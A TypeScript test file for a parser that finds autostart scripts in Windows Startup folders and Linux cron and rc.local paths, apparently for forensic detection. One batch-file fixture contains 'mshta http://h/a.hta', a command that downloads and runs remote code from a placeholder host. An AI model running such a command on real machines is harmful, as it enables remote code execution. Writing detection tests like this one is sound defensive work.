import { describe, expect, it } from "vitest";
import { createUnderstander } from "../../events/registry.ts";
import type { Event } from "../../model/event.ts";
import { startupScript } from "./startup-script.ts";

const FOLDER = "C/Users/kim/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/";

function eventsOf(file: string, bytes: string | Buffer): Event[] {
  const events: Event[] = [];
  const reader = startupScript.open(
    { file },
    { record: (record) => void events.push(...createUnderstander().understand(record)), diagnostic: () => {} },
  );
  reader.push(Buffer.from(bytes));
  reader.end();
  return events;
}

describe("startup scripts", () => {
  it("stand where something starts them", () => {
    const sniff = (name: string, text = "x") => startupScript.sniff(Buffer.from(text), name) > 0;
    expect(sniff(`${FOLDER}a.bat`)).toBe(true);
    expect(sniff(`image.zip!${FOLDER}a.VBS`)).toBe(true);
    expect(sniff("C:\\ProgramData\\Microsoft\\Windows\\Start Menu\\Programs\\StartUp\\a.cmd")).toBe(true);
    expect(sniff("C/Users/kim/Desktop/a.bat")).toBe(false);
    expect(sniff(`${FOLDER}a.bat`, "\0\0MZ")).toBe(false);
    expect(sniff("img/etc/cron.daily/backup", "#!/bin/sh\nid\n")).toBe(true);
    expect(sniff("img/etc/cron.daily/backup", "#!/usr/bin/perl\nid\n")).toBe(false);
    expect(sniff("img/etc/rc.local", "#!/bin/sh -e\nexit 0\n")).toBe(true);
  });

  it("give a command a line of a batch file", () => {
    const text = '@echo off\r\nrem a\r\n:: b\r\n:label\r\n@start /b "" a.exe ^\r\n /x\r\n\r\nmshta http://h/a.hta\r\n';
    expect(eventsOf(`${FOLDER}go.cmd`, text)).toMatchObject([
      {
        kind: "commandExecution",
        text: 'start /b "" a.exe  /x',
        dialect: "cmd",
        origin: "startupScript",
        name: "go.cmd",
      },
      { text: "mshta http://h/a.hta", platform: "windows" },
    ]);
  });

  it("give other scripts whole, in any encoding", () => {
    const script = 'CreateObject("WScript.Shell").Run "calc"';
    expect(eventsOf(`${FOLDER}a.vbs`, Buffer.from(`\ufeff${script}`, "utf16le"))).toMatchObject([
      { text: script, dialect: "vbscript" },
    ]);
    expect(eventsOf(`${FOLDER}a.ps1`, "iex 1")).toMatchObject([{ text: "iex 1", dialect: "powershell" }]);
    expect(eventsOf("img/etc/rc.local", "#!/bin/sh\nid\n")).toMatchObject([{ dialect: "sh", platform: "linux" }]);
    expect(eventsOf(`${FOLDER}a.vbs`, "")).toEqual([]);
  });
});
